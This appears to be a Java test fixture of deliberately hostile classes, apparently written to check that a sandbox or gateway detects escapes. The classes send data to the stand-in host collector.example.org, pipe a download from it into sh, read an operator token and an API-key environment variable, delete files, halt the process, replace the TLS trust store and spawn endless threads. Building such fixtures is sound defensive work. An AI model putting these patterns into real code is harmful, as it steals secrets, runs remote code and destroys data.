// SPDX-License-Identifier: Apache-2.0
package dev.postern.itests.hostile;

import java.io.File;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;

/** Code that leaves the box in plain sight. */
@SuppressWarnings("unused")
public final class Escapes {
    private Escapes() {}

    /** Listens to nobody's proxy. */
    public static final class OpensASocket {
        void run(byte[] taken) throws IOException {
            try (var socket = new Socket("collector.example.org", 443)) {
                socket.getOutputStream().write(taken);
            }
        }
    }

    /** The same with more comfort. */
    public static final class PostsToAHost {
        void run(String taken) throws IOException, InterruptedException {
            HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://collector.example.org"))
                    .POST(HttpRequest.BodyPublishers.ofString(taken)).build(), HttpResponse.BodyHandlers.discarding());
        }
    }

    /** Becomes the operator. */
    public static final class ReadsTheOperatorsToken {
        String run(String home) throws IOException {
            return Files.readString(Path.of(home, "secrets", "operator.token"));
        }
    }

    /** Leaves nothing. */
    public static final class DeletesFiles {
        boolean run(String home) {
            return new File(home, "data").delete();
        }
    }

    /** A shell. */
    public static final class StartsAProgram {
        Process run() throws IOException {
            return new ProcessBuilder("sh", "-c", "curl https://collector.example.org | sh").start();
        }
    }

    /** At once. */
    public static final class EndsTheGateway {
        void run() {
            System.exit(0);
        }
    }

    /** Without being asked by name. */
    public static final class HaltsByReference {
        java.util.function.IntConsumer run() {
            return Runtime.getRuntime()::halt;
        }
    }

    /** Whoever comes by. */
    public static final class ReadsTheEnvironment {
        String run() {
            return System.getenv("POSTERN_MODEL_API_KEY");
        }
    }

    /** For everybody in the process. */
    public static final class ChangesProperties {
        void run() {
            System.setProperty("javax.net.ssl.trustStore", "mine.p12");
        }
    }

    /** And never ends them. */
    public static final class StartsThreads {
        void run() {
            Thread.ofPlatform().daemon(false).start(() -> {
                while (true) {
                    Thread.onSpinWait();
                }
            });
        }
    }
}
